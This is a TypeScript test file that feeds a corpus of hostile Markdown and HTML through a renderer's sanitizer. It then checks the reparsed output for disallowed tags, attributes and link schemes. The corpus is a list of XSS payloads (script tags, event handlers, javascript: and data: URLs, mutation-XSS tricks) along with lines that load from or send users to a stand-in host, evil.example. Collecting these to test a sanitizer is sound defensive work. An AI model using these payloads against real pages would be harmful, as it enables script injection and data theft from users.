// S11: a corpus of what people have smuggled through Markdown renderers. Nothing active may be left, whatever form it
// came in. The output is parsed again, as a browser would, and every tag and attribute is looked at.

import { Parser } from "htmlparser2";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./render-markdown.ts";

const CORPUS: readonly string[] = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style><img src='</style><img src=x onerror=alert(1)>'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<form action=https://evil.example><input name=a><button>go</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#x09;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#x1;javascript:alert(1)">x</a>',
  '<a href=" \u00a0javascript:alert(1)">x</a>',
  "<a href='vbscript:msgbox(1)'>x</a>",
  "[x](vbscript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](https://evil.example/pixel.png)",
  '<video src=x onerror=alert(1)><source src="https://evil.example/x"></video>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<div id="fresh" name="fresh">clobber</div><a id="announce" name="body">x</a>',
  '<h2 id="s-plan" onclick="alert(1)">x</h2>',
  '<details open ontoggle="alert(1)"><summary>x</summary>y</details>',
  "<template><script>alert(1)</script></template>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<xmp><script>alert(1)</script></xmp>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  '"><script>alert(1)</script>',
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  '[x](https://example.org "\\"onmouseover=alert(1) \\"")',
  '<https://example.org/"onmouseover=alert(1)>',
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "<a xlink:href=javascript:alert(1)>x</a>",
  "<portal src=https://evil.example>",
  "<x onclick=alert(1)>x</x>",
];

const TAGS = new Set(
  "a abbr b blockquote br caption cite code dd del details dfn div dl dt em h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre q s samp small strong sub summary sup table tbody td tfoot th thead tr u ul var wbr".split(
    " ",
  ),
);
const ATTRIBUTES = new Set("href rel title start scope class id".split(" "));
const CLASSES = new Set(["prose", "anchor", "box-item"]);

/** What is not allowed in the HTML, in words. */
function activeParts(rendered: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!TAGS.has(name)) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!ATTRIBUTES.has(attribute)) found.push(`${name} ${attribute}`);
        if (attribute === "href" && !/^(https?:\/\/|mailto:|\/docs\/|#s-)/.test(value))
          found.push(`href ${value}`);
        if (attribute === "id" && !value.startsWith("s-")) found.push(`id ${value}`);
        if (attribute === "class" && !CLASSES.has(value)) found.push(`class ${value}`);
      }
    },
  });
  parser.end(rendered);
  return found;
}

describe("S11: hostile Markdown", () => {
  it.each(CORPUS)("%s", (text) => {
    for (const form of [
      text,
      `before ${text} after`,
      `- ${text}\n- x`,
      `> ${text}`,
      `| a |\n|---|\n| ${text} |`,
    ]) {
      expect(activeParts(String(renderMarkdown({ text: form, file: "tasks/a.md" })))).toEqual([]);
    }
  });

  it("notices what it is meant to notice", () => {
    expect(
      activeParts('<img src=x><p onclick="a"><a href="javascript:x" id="fresh" class="btn">'),
    ).toHaveLength(6);
  });
});
